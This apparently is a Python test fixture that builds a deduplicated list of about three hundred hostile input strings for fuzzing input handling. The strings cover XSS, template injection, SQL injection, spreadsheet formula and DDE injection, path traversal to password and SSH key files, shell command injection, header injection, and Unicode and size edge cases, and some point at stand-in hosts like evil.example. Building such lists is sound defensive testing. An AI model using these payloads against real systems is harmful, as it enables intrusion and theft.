"""Three hundred hostile texts, made from families: script, template, SQL, formula, path, header, signs, sizes."""

from __future__ import annotations

from urllib.parse import quote

_SCRIPT = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", '<a href="data:text/html,x">x</a>',
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//e>",
    "<style>*{background:url(//evil)}</style>", "<p style=background:url(//evil)>",
    "<form action=//evil><button>", "<button hx-get=//evil hx-trigger=load>", "<div hx-on:click=alert(1)>",
    "<div hx-vals='js:{a:alert(1)}'>", "<!--", "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<x onclick=alert(1)>", "&lt;script&gt;",
    "&#60;script&#62;alert(1)", '" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "<script\x0b>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<template><script>",
]  # fmt: skip
_TEMPLATE = [
    "{{ 7|add:7 }}", "{{7*49049049}}", "{% load static %}", "{% debug %}", "{% include '/etc/passwd' %}",
    "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{# x #}", "${7*49049049}", "#{7*49049049}",
    "<%= 7*49049049 %>", "{{''.__class__}}", "%(x)s", "%s%s%s%n", "{0.__class__}", "{}", "%", "%d", "$(id)",
    "`id`", "; id", "| id", "&& id", "@{7*49049049}", "*{7*49049049}",
]  # fmt: skip
_SQL = [
    "' OR '1'='1", '" OR "1"="1', "' OR 1=1 --", "'; DROP TABLE review_alert; --",
    "1; DELETE FROM review_entry", "') OR ('1'='1", "' UNION SELECT password FROM review_user --", "1 OR 1=1",
    "1' AND SLEEP(5) --", "1; SELECT pg_sleep(5)", "' || '", "\\'; --", "''", "'", '"', "\\", "%' OR '%'='",
    "_", "%%%", "1e309", "0x31", "-1", "999999999999999999999999", "NaN", "Infinity", "-0", "1_000", "NULL",
    "None", "true", "[]", '{"$ne": null}', "*)(uid=*))(|(uid=*", "read_csv('/etc/passwd')", "ATTACH 'x.db'",
    "PRAGMA x", "COPY x TO '/tmp/x'", "E'\\\\x27'", "$$;$$", "/**/OR/**/1=1", "0' XOR 1", "١٢٣", "１２３", "²",
    "一", "1,000",
]  # fmt: skip
_FORMULA = [
    f"{sign}{rest}"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=")
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil","x")', "SUM(A1:A9)")
]
_PATH = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "\\\\evil\\share",
    "file:///etc/passwd", "//evil.example", "https://evil.example", "....//....//etc/passwd", "%2e%2e%2f",
    "%252e%252e%252f", "..%c0%af..", "~/.ssh/id_rsa", "CON", "NUL.txt", "a/../b", "./././", "/", "//", "?", "#",
    "&a=b", ";a=b", "a\\b", ".", "..", "...", "-rf", "--help", "$HOME",
]  # fmt: skip
_HEADER = [
    "x\r\nX-Injected: 1", "x\nX-Injected: 1", "x\rX-Injected: 1", "%0d%0aX-Injected:%201", "x\r\n\r\n<script>",
    "嘍嘊X-Injected: 1", "x\u2028X-Injected: 1", "x\u2029y", "x\x85y", "x\x0bX-Injected: 1", "x\x0cy",
    'filename="x"; evil="y',
]  # fmt: skip
_SIGNS = [
    "\x00", "a\x00b", "\x01\x02\x03", "\x1b[31m", "\x7f", "\u202eexe.fdp", "\u202d", "\u2066a\u2069", "\u200b",
    "\u200d", "\ufeff", "\xad", "�", "\ufffe", "\uffff", "\U000e0001", "\U0010ffff",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "ﷺ", "𠮷", "𪚥𪚥",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308", "ß", "ı",
    "İ", "ﬀ", "Å", "Å", "한글", "עברית", "العربية", "ไทย", "·", "欧阳·买买提", "\u3000", "\u3000x", " ", "  ", "\t",
    "\n", "\r\n", "\xa0", "", "�", "%00", "%ff", "%u0000", "&#0;", "&nbsp;", "\\0", "\\u0000", "\\n",
]  # fmt: skip
_SIZES = [
    "e" + "\u0301" * 200, "x" * 300 + ".xlsx", "x" * 151, "x" * 256, "x" * 1000,
    "x" * 10_000, "字" * 10_000, "9" * 5_000,
    "<" * 5_000, "&" * 5_000, "(" * 5_000, "[" * 5_000, "a," * 5_000, " " * 10_000,
    "\n" * 5_000, "../" * 2_000, "{{" * 2_000,
]  # fmt: skip
_TWICE = [quote(one) for one in _SCRIPT[:15]] + [one[::-1] for one in _SQL[:10]]
PAYLOADS = list(dict.fromkeys([*_SCRIPT, *_TEMPLATE, *_SQL, *_FORMULA, *_PATH, *_HEADER, *_SIGNS, *_SIZES, *_TWICE]))
